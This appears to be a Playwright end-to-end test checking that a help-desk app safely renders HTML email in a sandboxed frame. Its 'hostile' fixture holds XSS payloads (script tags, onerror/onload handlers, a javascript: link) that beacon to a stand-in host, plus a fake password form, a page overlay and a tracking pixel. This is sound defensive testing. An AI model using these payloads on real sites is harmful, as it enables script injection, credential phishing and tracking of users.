import { expect, test, type Page } from '@playwright/test';
import { createTransport } from 'nodemailer';
import { signedIn, url } from './support/people';
import { openTicket, unique } from './support/tickets';

test.describe.configure({ mode: 'serial' });

const elsewhere = 'tracker.example';
const subject = unique('Hostile words');

/** Leaves a mark on our page, and tells somebody else, wherever it gets to run. */
const attack = `top.attacked=1;new Image().src='https://${elsewhere}/ran'`;
const hostile = `
  <p id="words">Dear team, look at this.</p>
  <script>${attack}</script>
  <img src="broken:" onerror="${attack}"><svg onload="${attack}"><script>${attack}</script></svg>
  <p onmouseover="${attack}" onclick="${attack}">Point at me</p>
  <form action="https://${elsewhere}/form"><input name="password"><button>Sign in again</button></form>
  <p><a href="javascript:${attack}">Click me</a></p>
  <div style="position:fixed;inset:0;z-index:2147483647;background:red">You have won</div>
  <style>body{background:url(https://${elsewhere}/style)}</style>
  <link rel="stylesheet" href="https://${elsewhere}/sheet"><iframe src="https://${elsewhere}/frame"></iframe>
  <meta http-equiv="refresh" content="0;url=https://${elsewhere}/away">
  <img src="https://${elsewhere}/pixel.gif" alt="Our logo">`;

/** What the message's frame holds, as our page may look into it; the document of the frame runs nothing, so it cannot be asked itself. */
const inFrame = <Answer>(page: Page, question: string) =>
  page.evaluate<Answer>(`(() => {
    const frame = document.querySelector('cw-html-frame iframe');
    const inside = frame.contentDocument;
    return ${question};
  })()`);

test.describe('HTML that somebody sends', () => {
  let agent: Page;
  let ticket: string;
  const asked: string[] = [];

  test.beforeAll(async ({ browser }) => {
    agent = await signedIn(browser, 'agent');
    await agent.context().route(`https://${elsewhere}/**`, (route) => {
      asked.push(new URL(route.request().url()).pathname);
      return route.fulfill({
        contentType: 'image/gif',
        body: Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'),
      });
    });
    const port = Number(process.env['E2E_SMTP_PORT']);
    const transport = createTransport({ host: '127.0.0.1', port, secure: false, ignoreTLS: true });
    await transport.sendMail({ from: 'mallory@newcomer.example', to: 'support@demo.test', subject, text: 'Look at this.', html: hostile });
    transport.close();
    ticket = await openTicket(agent, subject);
  });

  const open = async () => {
    await agent.goto(url(ticket));
    await expect(agent.locator('cw-html-frame iframe')).toBeVisible();
    await expect.poll(() => inFrame<string>(agent, 'inside?.body?.textContent ?? ""')).toContain('Dear team');
  };
  /** A real click at the middle of what is found in the frame. */
  const clickInFrame = async (found: string) => {
    const [x, y] = await inFrame<[number, number]>(
      agent,
      `(() => {
        const part = ${found};
        part.scrollIntoView({ block: 'center' });
        const [outer, inner] = [frame.getBoundingClientRect(), part.getBoundingClientRect()];
        const border = frame.clientLeft + parseFloat(getComputedStyle(frame).paddingLeft);
        return [outer.x + border + inner.x + inner.width / 2, outer.y + border + inner.y + inner.height / 2];
      })()`,
    );
    await agent.mouse.click(x, y);
  };
  const nothingRan = async () => {
    expect(await agent.evaluate(`'attacked' in window`)).toBe(false);
    expect(new URL(agent.url()).pathname).toBe(ticket);
    expect(agent.context().pages()).toHaveLength(1);
  };

  test('is shown without what could act: no script, no handler, no form, no way over our page', async () => {
    await open();
    const dangerous = 'script,style,link,meta[http-equiv=refresh],iframe,object,form,input,button,svg';
    expect(await inFrame(agent, `[...inside.body.querySelectorAll('${dangerous}')].map((part) => part.outerHTML)`)).toEqual([]);
    const attributes = `[...inside.body.querySelectorAll('*')].flatMap((part) => [...part.attributes])`;
    expect(await inFrame(agent, `${attributes}.filter(({ name }) => name.startsWith('on')).map(({ name }) => name)`)).toEqual([]);
    expect(await inFrame(agent, `${attributes}.filter(({ value }) => /javascript:/i.test(value)).length`)).toBe(0);
    const placed = `[...inside.body.querySelectorAll('*')].map((part) => getComputedStyle(part).position)`;
    expect(new Set(await inFrame<string[]>(agent, placed))).toEqual(new Set(['static']));
    await clickInFrame(`[...inside.querySelectorAll('p')].find((part) => part.textContent === 'Point at me')`);
    await nothingRan();
  });

  test('fetches nothing from elsewhere until its reader asks for the picture', async () => {
    await open();
    expect(asked).toEqual([]);
    await agent.getByRole('button', { name: 'Show the remote image' }).click();
    await expect.poll(() => asked).toEqual(['/pixel.gif']);
    await expect.poll(() => inFrame(agent, `inside.querySelector('img[alt="Our logo"]')?.naturalWidth`)).toBe(1);
    await agent.reload();
    await expect(agent.getByRole('button', { name: 'Show the remote image' })).toBeVisible();
    expect(asked).toEqual(['/pixel.gif']);
  });

  test('does no harm in its frame either, should the server have let it all through', async () => {
    asked.length = 0;
    await agent.route(/\/api\/v1\/tickets\/[0-9a-f-]{36}$/, async (route) => {
      const answer = await route.fetch();
      const view = (await answer.json()) as { comments: { html: string | null }[] };
      const comments = view.comments.map((comment) => (comment.html === null ? comment : { ...comment, html: hostile }));
      await route.fulfill({ response: answer, json: { ...view, comments } });
    });
    await open();
    expect(await inFrame(agent, `inside.querySelectorAll('script, form').length`)).toBeGreaterThan(1);
    await clickInFrame(`inside.querySelector('a')`);
    await clickInFrame(`inside.querySelector('form button')`);
    await clickInFrame(`[...inside.querySelectorAll('p')].find((part) => part.textContent === 'Point at me')`);
    await nothingRan();
    expect(asked).toEqual([]);
    await agent.unroute(/\/api\/v1\/tickets\/[0-9a-f-]{36}$/);
  });
});
